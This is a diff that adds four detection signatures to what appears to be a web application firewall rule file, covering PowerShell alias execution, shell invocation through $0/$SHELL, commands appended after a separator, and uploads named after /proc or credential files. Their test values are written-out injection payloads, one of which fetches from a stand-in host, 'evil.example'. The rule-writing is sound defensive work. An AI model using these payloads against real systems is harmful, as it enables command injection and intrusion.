@@ -505,3 +505,141 @@ test: --upload-pack=touch /tmp/pwn
 pass: butt=1
 pass: settings --title=report
 pass: the ATT=1 rule
+
+id: 300003701
+name: Command execution: PowerShell alias or environment drive as the command after a separator
+# PowerShell's built-in aliases run cmdlets under short names a filter for `Invoke-Expression`
+# or `Get-ChildItem` does not see: `iex`, `iwr`, `irm`, `icm`, `gci`, `gcm`, `gwmi`, `ipmo`,
+# `saps`, `spps`, `sal` (which defines another alias), and `env:` is the drive holding the
+# environment. Only in a command position, after `;`, `|`, `&` or `$(`: the names are short.
+type: Command Execution
+accuracy: high
+risk: high
+systems: Microsoft Windows
+targets: @values, header, param-name
+unless: binary, url
+literal: ;
+literal: |
+literal: &
+literal: $(
+regex: (?:[;|&]|\$\()\s*(?:(?:iex|iwr|irm|icm|gci|gcm|gwmi|ipmo|saps|spps)(?:\s|$|[;|&()])|sal\s+[\w-]+\s+[\w-]|(?:ls|dir|gci|gc|type|cat|get-childitem|get-content)\s+env:)
+test: ;gci env:
+test: | sal x iex
+test: ;gcm *
+test: | iwr http://evil.example/x
+test: && iex (gc x.ps1)
+test: ; ls env:
+pass: app=4qgthszz-efopzl8g&cp=none&de=4&seq=1688376436584
+pass: ;route_index_index_a20221020wzjwhb_newsdetail
+pass: text/html;q=0.9,*/*;q=0.8
+
+id: 300003702
+name: OS command injection: the shell itself named by a variable as the command
+# `$0` holds the running shell's name and `$SHELL`, `$BASH` a shell's path: after a separator they
+# start a shell without the word `sh` or `bash` appearing (`;$0 -c id`, `|${SHELL} -i`).
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, param-name
+unless: binary
+literal: $0
+literal: ${0}
+literal: $shell
+literal: ${shell}
+literal: $bash
+literal: ${bash}
+regex: (?:^|[;|&`\n]|\$\()\s*\$(?:0|\{0\}|shell\b|\{shell\}|bash\b|\{bash\})(?:\s|$|[;|&`)<>])
+test: ;$0 -c id
+test: |${SHELL} -i
+test: $($BASH -c 'id')
+test: a&&$0<<<id
+# Random sensor tokens hold `$0` glued to letters and digits.
+pass: -Q44cSSbncyVICfeyQl$zTMYAMKJgUaP65Yp582saf0vwdznDlSNV$AKVyZy$0GGYH9ju3YXH$pHU$$dp0QBui2P
+pass: price $0 after coupon
+
+id: 300003703
+name: OS command injection: a command word right after a separator that opens the value
+# Text does not start with `;` or `|`: a value that does, followed by a command word and then a
+# blank or its end, is a command appended to whatever the application puts before it
+# (`;top Something`), whatever follows the word. Inside a value the same words after a
+# separator need shell-shaped arguments (300003101); here the opening separator is the proof.
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, param-name
+unless: binary
+literal: ;
+literal: |
+literal: &&
+regex: ^\s*['"]?\s*(?:[;|]|&&)\s*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:cat|tac|nl|od|more|less|head|tail|ls|ll|dir|id|pwd|env|ps|top|htop|echo|printf|sleep|touch|mv|cp|rm|kill|find|sort|tr|cut|split|paste|join|column|watch|timeout|time|nice|file|stat|ln|which|whereis|locate|history|alias|source|eval|exec|export|set|unset|w|who|whoami|uname|users|groups|date|df|du|free|mount|umount|dd|tar|zip|unzip|gzip|grep|egrep|awk|sed|tee|strings|vi|vim|nano|make|install|rsync|scp|ssh|ftp|git|npm|pip[23x]?|gem|apt|apt-get|yum|dnf|rpm|service|reboot|shutdown|halt|poweroff|init|rc|uptime|hostname|dig|whois|route|arp|ip|ifconfig|netstat|nc|ncat|telnet|wget|curl|ping|nslookup|openssl|mail|wall|chmod|chown|crontab|passwd|sudo|su|bash|sh|zsh|python[\d.]*|perl|ruby|php|node|chef|knife|puppet|ansible|docker|kubectl|systemctl)['"]?(?:\s|$)
+test: ;top Something else 1
+test: | ls
+test: ;"id"
+test: && wall We are going down
+test: |/usr/bin/top -b
+# Real values open with a separator too, followed by a name or a list of flags.
+pass: ;route_index_index_a20221020wzjwhb_newsdetail
+pass: |L:-1|IP:f|IPC:CN
+pass: ||s|
+pass: |||||||||||||||||||||||||||||||2159
+
+id: 300003704
+name: File upload: stored under the name of a kernel interface file or a shell history
+# An upload stored under a name the system reads itself (`/proc`'s `cpuinfo`, `kcore`,
+# `sysrq-trigger`, ...) or a user's history and credential files (`.bash_history`, `.pgpass`,
+# `.my.cnf`, `.rhosts`) overwrites or plants what a later command trusts; no document is named
+# that way. Configuration and web-server files have their own signature.
+type: OS Command Injection
+accuracy: high
+risk: high
+targets: filename
+unless: binary
+literal: acpi
+literal: asound
+literal: buddyinfo
+literal: cgroups
+literal: cmdline
+literal: cpuinfo
+literal: diskstats
+literal: execdomains
+literal: filesystems
+literal: iomem
+literal: ioports
+literal: kallsyms
+literal: kcore
+literal: kmsg
+literal: kpage
+literal: loadavg
+literal: mdstat
+literal: meminfo
+literal: mtrr
+literal: pagetypeinfo
+literal: sched
+literal: slabinfo
+literal: softirqs
+literal: sysrq-trigger
+literal: sysvipc
+literal: timer_
+literal: vmallocinfo
+literal: vmstat
+literal: zoneinfo
+literal: history
+literal: .pgpass
+literal: .my.cnf
+literal: .rhosts
+literal: .forward
+literal: .xauthority
+literal: .google_authenticator
+literal: .viminfo
+literal: .lesshst
+regex: (?:^|[/\\])\s*(?:acpi|asound|buddyinfo|cgroups|cmdline|cpuinfo|diskstats|execdomains|filesystems|iomem|ioports|kallsyms|kcore|kmsg|kpage(?:cgroup|count|flags)|loadavg|mdstat|meminfo|mtrr|pagetypeinfo|sched_debug|schedstat|slabinfo|softirqs|sysrq-trigger|sysvipc|timer_list|timer_stats|vmallocinfo|vmstat|zoneinfo|\.(?:bash|zsh|sh|ksh|mysql|psql|python|node_repl|php|sqlite|rediscli|lldb|nano)_history|\.[lr]?history|\.zhistory|\.pgpass|\.my\.cnf|\.rhosts|\.forward|\.xauthority|\.google_authenticator|\.viminfo|\.lesshst)\s*$
+test: mtrr
+test: acpi
+test: .bash_history
+test: ../.pgpass
+test: sysrq-trigger
+pass: cpuinfo-report.pdf
+pass: history.docx
+pass: holiday-photo.jpg
